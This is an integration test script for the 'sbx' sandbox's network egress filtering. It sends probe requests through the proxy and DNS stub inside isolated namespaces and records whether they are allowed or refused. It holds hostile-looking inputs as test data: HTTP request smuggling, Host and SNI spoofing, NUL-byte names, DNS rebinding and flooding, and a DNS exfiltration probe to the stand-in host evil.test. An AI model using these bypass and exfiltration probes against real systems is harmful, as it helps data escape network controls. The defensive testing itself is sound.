#!/bin/sh
# Run by egress.sh inside network, mount and PID namespaces of its own
# (unprivileged: and a user namespace): a stand-in for "the host" whose
# only route leads to a server namespace the test owns, so no packet ever
# reaches another machine.
#
#   host stand-in (this script): lo, sbxe-h 198.19.0.2/24, default via .1;
#     HTTP "host" on 127.0.0.1:80, [::1]:80 and 198.19.0.2:80; the test
#     DNS server on 127.0.0.1:53 (its /etc/resolv.conf, bind-mounted
#     here) and a second one on 127.0.0.1:5353 (SBX_TEST_RESOLVER)
#   server netns: sbxe-s 198.19.0.1/24 (the gateway, on the host
#     stand-in's connected subnet), 198.18.0.1/32 ("the internet",
#     SBX_TEST_PUBLIC), 10.99.0.1/32 and 192.0.2.1/32; HTTP "server" on
#     198.18.0.1 ports 80, 8000, 9000, on 10.99.0.1:80, 198.19.0.1:80 and
#     192.0.2.1:80; a TLS front door on 198.18.0.1:443; a server that
#     reports every request that reached it on 198.18.0.1:8081
#
# Writes NAME=OUTPUT lines to $1. $SBX_AS runs sbx as the outer test's uid.
set -u
results=$1
T=$SBX_TOP_SRCDIR/tests/integration
PY=/usr/bin/python3
w=$(mktemp -d "${TMPDIR:-/tmp}/sbx-egress.XXXXXX")
chmod 755 "$w"
record() { name=$1; shift; printf '%s=%s\n' "$name" "$("$@" 2>&1 | tr '\n' ' ')" >>"$results"; }

. "$T/egress-net.sh"

cat >"$w/p.ini" <<EOT
[network]
allow = pkg.test PKG.test. pkg.test:8000 pkg.test:8081 loop.test priv.test self.test rebind.test
allow = conn.test doc.test
EOT
cat >"$w/lit9.ini" <<EOT
[network]
allow = loop.test 127.0.0.1:9999
EOT
cat >"$w/lit.ini" <<EOT
[network]
allow = pkg.test 198.18.0.1:80 loop.test 127.0.0.0/8
EOT
cat >"$w/none.ini" <<EOT
[network]
outbound = no
EOT
chmod a+r "$w"/*.ini
# -q: the command's own output only; sbxv: with sbx's summary
sbx() { $SBX_AS "$SBX" run -q -p "$w/p.ini" -- "$@"; }
sbxv() { $SBX_AS "$SBX" run -p "$w/p.ini" -- "$@"; }
C="$PY $T/egress-client.py"
CURL="curl -sS --max-time 20"

# --- allowed, three ways -------------------------------------------------
record direct_pkg   $CURL http://pkg.test/whoami
record http_pkg     sbx $CURL http://pkg.test/whoami
record connect_pkg  sbx $CURL -p http://pkg.test/whoami
record socks_pkg    sbx $CURL --socks5-hostname 127.0.0.1:3128 http://pkg.test/whoami
record port_8000    sbx $CURL -p http://pkg.test:8000/whoami
record env_vars     sbx sh -c 'env | grep -i _proxy= | sort'
record resolv_file  sbx cat /etc/resolv.conf
record case_dot     sbx $CURL http://PKG.TEST./whoami

# --- refused names, three ways ---------------------------------------------
record direct_evil  $CURL http://evil.test/whoami
record http_evil    sbx $CURL http://evil.test/whoami
record connect_evil sbx sh -c "$CURL -p http://evil.test/whoami; echo curl \$?"
record socks_evil   sbx sh -c "$CURL --socks5-hostname 127.0.0.1:3128 http://evil.test/whoami; echo curl \$?"
record evil_case    sbx $CURL http://EVIL.TEST./whoami
# an allowed name on another port (CONNECT is a tunnel to any port)
record direct_9000  $CURL http://pkg.test:9000/whoami
record connect_9000 sbx sh -c "$CURL -p http://pkg.test:9000/whoami; echo curl \$?"
record http_9000    sbx $CURL http://pkg.test:9000/whoami

# --- names leading to the host or its neighbours ---------------------------
record direct_loop  $CURL http://loop.test/whoami
record http_loop    sbx $CURL http://loop.test/whoami
record direct_priv  $CURL http://priv.test/whoami
record http_priv    sbx $CURL http://priv.test/whoami
record direct_self  $CURL http://self.test/whoami
record http_self    sbx $CURL http://self.test/whoami
record socks_loop   sbx $C socks 127.0.0.1 3128 3 loop.test 80
# loopback and a public address: only the public one is used
record direct_rebind sh -c "$CURL --resolve rebind.test:80:127.0.0.1 http://rebind.test/whoami"
record http_rebind  sbx $CURL http://rebind.test/whoami
record dns_rebind   sbx $C dns 127.0.0.1 rebind.test 1
record dns_loop     sbx $C dns 127.0.0.1 loop.test 1

# --- IP literals -------------------------------------------------------------
record direct_lit   $CURL http://198.18.0.1/whoami
record http_lit     sbx $CURL http://198.18.0.1/whoami
record connect_lit  sbx sh -c "$CURL -p http://198.18.0.1/whoami; echo curl \$?"
record socks_lit    sbx $C socks 127.0.0.1 3128 1 198.18.0.1 80
record direct_v6    $CURL 'http://[::1]/whoami'
record socks_v6     sbx $C socks 127.0.0.1 3128 4 ::1 80
record connect_v6   sbx $C send 127.0.0.1 3128 'CONNECT [::1]:80 HTTP/1.1\r\nHost: [::1]:80\r\n\r\n'
record shorthand    sbx $C send 127.0.0.1 3128 'CONNECT 2130706433:80 HTTP/1.1\r\n\r\n'
record lit_listed   $SBX_AS "$SBX" run -q -p "$w/lit.ini" -- $CURL -p http://198.18.0.1/whoami
record lit_loop     $SBX_AS "$SBX" run -q -p "$w/lit.ini" -- $CURL http://loop.test/whoami

# --- the request itself --------------------------------------------------------
# Host header and URI disagree: a server acts on the Host header
record direct_host  $C body 198.18.0.1 80 'GET /whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record smuggle_host sbx $C send 127.0.0.1 3128 'GET http://pkg.test/whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record two_hosts    sbx $C send 127.0.0.1 3128 'GET http://pkg.test/whoami HTTP/1.1\r\nHost: pkg.test\r\nHost: evil.test\r\n\r\n'
record direct_user  $CURL http://pkg.test@evil.test/whoami
record userinfo     sbx $C send 127.0.0.1 3128 'GET http://pkg.test@evil.test/whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record bare_lf      sbx $C send 127.0.0.1 3128 'GET http://pkg.test/whoami HTTP/1.1\nHost: pkg.test\n\n'
record utf8_name    sbx $C send 127.0.0.1 3128 'CONNECT pk\xc4\xa1.test:443 HTTP/1.1\r\n\r\n'
record nul_name     sbx $C send 127.0.0.1 3128 'CONNECT pkg.test\x00.evil.test:80 HTTP/1.1\r\n\r\n'
record origin_form  sbx $C send 127.0.0.1 3128 'GET /whoami HTTP/1.1\r\nHost: pkg.test\r\n\r\n'
long=$($PY -c 'print("x" * 20000)')
record long_line    sbx $C send 127.0.0.1 3128 "GET http://pkg.test/$long HTTP/1.1\\r\\nHost: pkg.test\\r\\n\\r\\n"
record after_long   sbx sh -c "$C send 127.0.0.1 3128 'GET http://pkg.test/$long HTTP/1.1\\r\\n' >/dev/null; $CURL http://pkg.test/whoami"
# TLS: servers (CDNs) pick the site by the hello's server name
record direct_sni   $C hello 198.18.0.1 443 evil.test
record sni_ok       sbx $C hello 127.0.0.1 3128 pkg.test connect pkg.test:443
record sni_other    sbx $C hello 127.0.0.1 3128 evil.test connect pkg.test:443
record sni_socks    sbx $C hello 127.0.0.1 3128 evil.test socks pkg.test:443
record sni_socks_ok sbx $C hello 127.0.0.1 3128 PKG.test. socks pkg.test:443
record sni_summary  sbxv $C hello 127.0.0.1 3128 evil.test connect pkg.test:443
# a second request on the connection cannot change the destination
record pipelined    sbx $C send 127.0.0.1 3128 'GET http://pkg.test/whoami HTTP/1.1\r\nHost: pkg.test\r\n\r\nGET http://evil.test/whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n'

# a port-80 tunnel is plain HTTP: a server acts on each request's Host
record tunnel80     sbx $C body 127.0.0.1 3128 'CONNECT pkg.test:80 HTTP/1.1\r\n\r\nGET /whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record tunnel80_ok  sbx $C body 127.0.0.1 3128 'CONNECT pkg.test:80 HTTP/1.1\r\n\r\nGET /whoami HTTP/1.1\r\nHost: pkg.test\r\n\r\n'
record tunnel_keep  sbx $C sendclose 127.0.0.1 3128 'CONNECT pkg.test:8081 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: pkg.test:8081\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record tunnel_two   sbx $C sendclose 127.0.0.1 3128 'CONNECT pkg.test:8081 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: pkg.test:8081\r\n\r\nGET / HTTP/1.1\r\nHost: pkg.test:8081\r\n\r\n'
record tunnel_summary sbxv $C body 127.0.0.1 3128 'CONNECT pkg.test:80 HTTP/1.1\r\n\r\nGET /whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n'
# what reaches the server after the first request on the absolute-form path
record direct_pipe  $C sendclose 198.18.0.1 8081 'GET / HTTP/1.1\r\nHost: pkg.test:8081\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record pipe_raw     sbx $C sendclose 127.0.0.1 3128 'GET http://pkg.test:8081/ HTTP/1.1\r\nHost: pkg.test:8081\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record clte         sbx $C send 127.0.0.1 3128 'POST http://pkg.test:8081/ HTTP/1.1\r\nHost: pkg.test:8081\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record body_cl      sbx $C sendclose 127.0.0.1 3128 'POST http://pkg.test:8081/ HTTP/1.1\r\nHost: pkg.test:8081\r\nContent-Length: 5\r\n\r\nhelloGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record body_chunked sbx $C sendclose 127.0.0.1 3128 'POST http://pkg.test:8081/ HTTP/1.1\r\nHost: pkg.test:8081\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
record te_bad       sbx $C send 127.0.0.1 3128 'POST http://pkg.test:8081/ HTTP/1.1\r\nHost: pkg.test:8081\r\nTransfer-Encoding: gzip, chunked\r\n\r\n'
record cl_two       sbx $C send 127.0.0.1 3128 'POST http://pkg.test:8081/ HTTP/1.1\r\nHost: pkg.test:8081\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n'
record post_ok      sbx $CURL -d hello http://pkg.test/whoami
# hellos the name check cannot read
record hello_nosni  sbx $C rawhello 127.0.0.1 3128 nosni pkg.test:443
record hello_ech    sbx $C rawhello 127.0.0.1 3128 ech pkg.test:443
record hello_esni   sbx $C rawhello 127.0.0.1 3128 esni pkg.test:443
record hello_notls  sbx $C rawhello 127.0.0.1 3128 notls pkg.test:443
record hello_plain  sbx $C rawhello 127.0.0.1 3128 plain pkg.test:443
# an address entry's port bounds the names leading to that address
record lit_port     $SBX_AS "$SBX" run -q -p "$w/lit9.ini" -- $CURL http://loop.test/whoami
# the host's neighbours and the documentation ranges
record direct_conn  $CURL http://conn.test/whoami
record http_conn    sbx $CURL http://conn.test/whoami
record direct_doc   $CURL http://doc.test/whoami
record http_doc     sbx $CURL http://doc.test/whoami
# refusals never drop out: 200 junk names, then the real target
mkdir -m 777 "$w/flood"
record flood        sh -c "$SBX_AS $SBX run --report $w/flood/r.json -p $w/p.ini -- sh -c '$C dnsflood 127.0.0.1 200 >/dev/null; $CURL -o /dev/null http://evil.test/x' 2>&1"
record flood_record jq -c '[.egress.refused, (.egress.refusals | map(select(.name == "evil.test")) | length), .egress.refusals_not_kept]' "$w/flood/r.json"
# more distinct rows than are kept (512 first, 512 last): the middle ones
# are counted, the first and the real target at the end stay
record flood_ring   sh -c "$SBX_AS $SBX run --report $w/flood/ring.json -p $w/p.ini -- sh -c '$C dnsflood 127.0.0.1 1100 >/dev/null; $CURL -o /dev/null http://evil.test/x' 2>&1 | grep -v '^sbx: fix:' | tail -6"
record flood_ring_record jq -c '[.egress.refused, (.egress.refusals | length), (.egress.refusals | map(select(.name == "evil.test" or .name == "junk0.flood.test")) | length), .egress.refusals_not_kept, .egress.refusal_rows_not_kept]' "$w/flood/ring.json"
record dns_nul      sbxv $C dns 127.0.0.1 'pkg\x00x.evil.test' 1

# --- DNS -------------------------------------------------------------------
record dns_direct_evil $C dns 127.0.0.1 evil.test 1
record dns_direct_dot $C dns 127.0.0.1 =pkg.test 1
: >"$w/dns.log"
record dns_pkg      sbx getent hosts pkg.test
record dns_evil     sbx sh -c 'getent hosts evil.test; echo status $?'
record dns_txt      sbx $C dns 127.0.0.1 pkg.test 16
record dns_exfil    sbx $C dns 127.0.0.1 c2VjcmV0.evil.test 1
record dns_dotlabel sbx $C dns 127.0.0.1 =pkg.test 1
record dns_log      cat "$w/dns.log"
record dns_resolver env SBX_TEST_RESOLVER=127.0.0.1:5353 $SBX_AS "$SBX" run -q -p "$w/p.ini" -- \
    $CURL http://pkg.test/whoami
printf '[network]\nallow = only.test\n' >"$w/only.ini"
chmod a+r "$w/only.ini"
record dns_resolver2 env SBX_TEST_RESOLVER=127.0.0.1:5353 $SBX_AS "$SBX" run -q -p "$w/only.ini" -- \
    $CURL http://only.test/whoami

# --- a tool that ignores the proxy variables --------------------------------------
record direct_tool  $C connect 198.18.0.1 80
record tool         sbxv $C connect 198.18.0.1 80
record tool_named   sbxv sh -c "getent hosts pkg.test >/dev/null; $C connect 198.18.0.1 8000"
record tool_v6      sbxv $C connect 2001:db8::1 443
record tool_lo      sbx sh -c "$C connect 127.0.0.1 3128"
record tool_none    $SBX_AS "$SBX" run -q -p "$w/none.ini" -- $C connect 198.18.0.1 80

# --- transparent egress: tools that ignore the proxy variables ---------------------
# (none of them set: each connects to the address the stub handed out)
noproxy="env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy"
FETCH='fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t.trim()), e => console.log("error " + ((e.cause && e.cause.code) || e.message)))'
record node_direct  node -e "$FETCH" http://pkg.test/whoami
record node_fetch   sbx $noproxy node -e "$FETCH" http://pkg.test/whoami
record node_evil    sbx $noproxy node -e "$FETCH" http://evil.test/whoami
record node_addr    sbx $noproxy node -e "$FETCH" http://198.18.0.1/whoami
record node_summary sbxv $noproxy node -e "$FETCH" http://pkg.test/whoami
if command -v java >/dev/null; then
    record java_fetch sbx $noproxy java "$T/EgressFetch.java" http://pkg.test/whoami
    record java_evil  sbx $noproxy java "$T/EgressFetch.java" http://evil.test/whoami
fi
record direct_host_other sbx sh -c "getent hosts pkg.test >/dev/null; $C body 198.18.0.1 80 'GET /whoami HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'"
record direct_keep  sbx sh -c "getent hosts pkg.test >/dev/null; $C sendclose 198.18.0.1 80 'GET /whoami HTTP/1.1\\r\\nHost: pkg.test\\r\\n\\r\\n'"
record direct_tls   sbx sh -c "getent hosts pkg.test >/dev/null; $C hello 198.18.0.1 443 pkg.test"
record direct_tls_other sbx sh -c "getent hosts pkg.test >/dev/null; $C hello 198.18.0.1 443 evil.test"
record direct_port  sbxv sh -c "getent hosts pkg.test >/dev/null; $C connect 198.18.0.1 9000"

# --- what sbx says and records ------------------------------------------------------
mkdir -m 777 "$w/out"
record strict_status sh -c "$SBX_AS $SBX run --strict -p $w/p.ini -- $CURL -o /dev/null http://evil.test/; echo status \$?"
record strict_clean  sh -c "$SBX_AS $SBX run --strict -p $w/p.ini -- $CURL -o /dev/null http://pkg.test/whoami; echo status \$?"
$SBX_AS "$SBX" run --report "$w/out/r.json" -p "$w/p.ini" -- sh -c \
    "$CURL -o /dev/null http://evil.test/x; $CURL -o /dev/null http://pkg.test/whoami; $C connect 198.18.0.1 443" >/dev/null 2>&1
record report_egress jq -c '.egress | {allowed, refused, rows: [.refusals[] | [.name, .port, .via, .count]]}' "$w/out/r.json"
record report_verdict jq -r .verdict "$w/out/r.json"
record report_state jq -r .network.state.allow "$w/out/r.json"
record report_env jq -c '[.environment.changed_by_sbx[].name | select(test("proxy"; "i"))] | length' "$w/out/r.json"
record report_denial jq -c '[.denials.denials[] | [.syscall, .address, .errno]]' "$w/out/r.json"
rm -rf "$w"
